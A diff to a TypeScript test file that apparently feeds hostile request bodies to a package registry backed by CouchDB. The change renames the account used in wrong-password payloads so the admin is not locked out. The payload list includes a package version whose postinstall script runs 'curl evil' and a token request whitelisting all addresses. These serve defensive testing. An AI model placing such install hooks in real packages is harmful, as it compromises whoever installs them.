@@ -71,8 +71,10 @@ function bodies(db: string): (string | undefined)[] {
     JSON.stringify({ ...publishBody('victim', '1.0.0', Buffer.from('replaced bytes')) }),
     JSON.stringify({ ...publishBody('victim', '3.0.0'), versions: { '3.0.0': { name: 'victim', version: '3.0.0', scripts: { postinstall: 'curl evil' }, dist: {} } } }),
     JSON.stringify({ name: 'x'.repeat(100_000) }),
-    JSON.stringify({ password: 'p', name: 'admin', cidr_whitelist: ['0.0.0.0/0'], readonly: false }),
-    'name=admin&password=wrong',
+    // Wrong passwords for an account that does not exist: a real CouchDB locks an account out after
+    // five failures from one address (the admin too, whom the rest of the suite needs).
+    JSON.stringify({ password: 'p', name: 'nobody-at-all', cidr_whitelist: ['0.0.0.0/0'], readonly: false }),
+    'name=nobody-at-all&password=wrong',
     '\u0000\u0001\u0002',
     '%7B%7D',
   ];
